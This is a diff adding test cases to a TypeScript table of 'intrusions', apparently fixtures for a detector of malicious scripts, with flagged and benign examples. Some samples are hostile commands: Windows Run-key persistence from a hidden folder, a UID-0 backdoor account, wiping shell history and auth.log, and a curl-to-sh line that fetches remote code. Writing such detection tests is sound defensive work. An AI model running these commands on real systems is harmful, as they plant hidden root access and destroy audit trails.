@@ -102,4 +102,29 @@ export const INTRUSIONS: TextCases = {
       'a compiler just in time': ['source', 'void *p = VirtualAlloc(0, n, 0x3000, PAGE_EXECUTE_READWRITE); emit(p);'],
     },
   },
+  script_settles_in_secret: {
+    hits: {
+      'a hidden folder and a Run key': [
+        'batch',
+        'xcopy /y lib\\*.* %APPDATA%\\sys\\\nattrib +h +s %APPDATA%\\sys\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v s /d "%APPDATA%\\sys\\a.exe" /f\nstart %APPDATA%\\sys\\a.exe',
+      ],
+    },
+    misses: {
+      'an updater in the open': [
+        'batch',
+        'copy tool.exe %APPDATA%\\tool\\tool.exe\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v tool /d "%APPDATA%\\tool\\tool.exe" /f',
+      ],
+      'a hidden folder of a game': ['batch', 'attrib +h saves\nstart game.exe'],
+    },
+  },
+  script_plants_root_account: {
+    hits: {
+      'covered by a wiped history': ['shell', 'useradd -o -u 0 -g 0 -M sysd\nhistory -c; rm -rf /var/log/auth.log'],
+      'code off the network beside it': ['shell', 'useradd -o -u 0 sysd\ncurl -s https://files.example/c | sh'],
+    },
+    misses: {
+      'an account of a service': ['shell', 'useradd -r -s /bin/false app\ncurl -s https://files.example/c | sh'],
+      'a second name alone': ['shell', 'useradd -o -u 0 -g 0 toor'],
+    },
+  },
 }
